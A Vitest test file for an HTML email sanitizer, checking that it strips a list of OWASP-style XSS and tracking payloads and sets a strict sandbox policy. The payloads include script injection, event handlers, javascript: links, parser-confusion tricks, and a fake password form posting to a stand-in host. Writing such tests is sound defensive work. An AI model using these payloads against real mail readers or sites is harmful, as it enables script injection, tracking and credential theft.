import { expect, test } from 'vitest'
import { mailDocument } from './mail-document.ts'

// What is tried on readers of mail, of the kinds OWASP's filter evasion sheet lists (cheatsheetseries.owasp.org).
test.each([
  ['a script', '<script>alert(1)</script>'],
  ['a handler', '<img src=x onerror=alert(1)>'],
  ['a drawing that loads', '<svg onload=alert(1)><script>alert(1)</script></svg>'],
  ['a link that runs', '<a href="javascript:alert(1)">x</a>'],
  ['a link that runs, spelled in pieces', '<a href="java&#10;script:alert(1)">x</a>'],
  ['a page in the page', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a sheet from elsewhere', '<style>@import "//tracker.example/a"</style><link rel=stylesheet href=//tracker.example/b>'],
  ['a style that calls out', '<div style="background:url(//tracker.example/c)">x</div>'],
  ['a style in escapes', '<div style="background:\\75 rl(//tracker.example/c)">x</div>'],
  ['a form', '<form action="//tracker.example/d"><input name=password><button>Sign in</button></form>'],
  ['a page that leaves', '<meta http-equiv=refresh content="0;url=//tracker.example/e"><base href="//tracker.example/">'],
  ['an object', '<object data="//tracker.example/f"></object><embed src="//tracker.example/g">'],
  ['confused parsers', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['a quote that ends early', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['a film', '<video poster="//tracker.example/h" onerror=alert(1)></video>'],
  ['a picture of another scheme', '<img src="data:text/html,<script>alert(1)</script>"><img src="//tracker.example/i">'],
])('%s is taken out', (_name, body) => {
  for (const pictures of [false, true]) {
    const { html } = mailDocument(`<p>Before</p>${body}`, pictures)
    expect(html).toContain('<p>Before</p>')
    expect(html.replace(/^.*?<\/style>/, '')).not.toMatch(
      /<script|on(?:error|load)=|javascript:|tracker\.example|<(?:iframe|svg|style|link|form|input|meta|base|object|embed|video)/i,
    )
  }
})

test('pictures from elsewhere come when they are asked for, and the policy says the same', () => {
  const body = '<img src="https://shop.example/logo.png" alt="Logo"><a href="https://shop.example">Shop</a>'
  const [without, asked] = [mailDocument(body, false), mailDocument(body, true)]
  expect([without.html.includes('logo.png'), asked.html.includes('logo.png')]).toEqual([false, true])
  expect(without.policy).toContain('img-src data:;')
  expect(asked.policy).toContain('img-src data: http: https:;')
  for (const { html, policy } of [without, asked]) {
    expect(policy).toMatch(/^sandbox (?!.*allow-(?:scripts|same-origin|forms))/)
    expect(html).toContain('<a href="https://shop.example" target="_blank" rel="noopener noreferrer nofollow">')
  }
})
